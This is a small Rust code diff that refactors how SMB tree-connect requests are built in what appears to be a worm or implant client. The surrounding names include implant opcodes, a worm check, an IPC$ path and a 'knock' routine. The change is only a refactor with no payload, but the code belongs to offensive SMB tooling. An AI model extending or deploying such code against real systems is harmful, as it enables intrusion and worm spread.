@@ -3,7 +3,7 @@
 use super::chance::Chance;
 use super::implant::{Opcode, Status, key_of_seed};
 use super::reply::Reply;
-use super::request::{self, Carrier, EXEC_DATA_AT, Header, Tree};
+use super::request::{self, Carrier, EXEC_DATA_AT, Header};
 use super::sender::{Manner, Sender};
 use super::upload::{KeyChoice, Upload};
 
@@ -304,16 +304,7 @@ impl<'p> Visit<'p> {
         let uid = if worm_check { 0x0800 } else { self.uid };
         let path = format!(r"\\{}\IPC$", self.plan.path_host);
         let stale: &[u8] = if worm_check && self.plan.later_target { b"TH_REPLACE__?????\0" } else { b"" };
-        let path_len = u16::try_from(path.len()).unwrap_or(u16::MAX);
-        let tree = Tree {
-            andx_offset: if manner.extended_tree { path_len.saturating_mul(2).saturating_add(52) } else { 0 },
-            flags: if manner.extended_tree { 0x0008 } else { 0 },
-            path: &path,
-            unicode: manner.setup.unicode,
-            byte_count: manner.tree_byte_count,
-            stale,
-        };
-        request::tree_connect(frame, manner.header(2, 0, uid), &tree);
+        request::tree_connect(frame, manner.header(2, 0, uid), &manner.tree(&path, stale));
     }
 
     fn write_knock(&mut self, opcode: Opcode, frame: &mut Vec<u8>) {
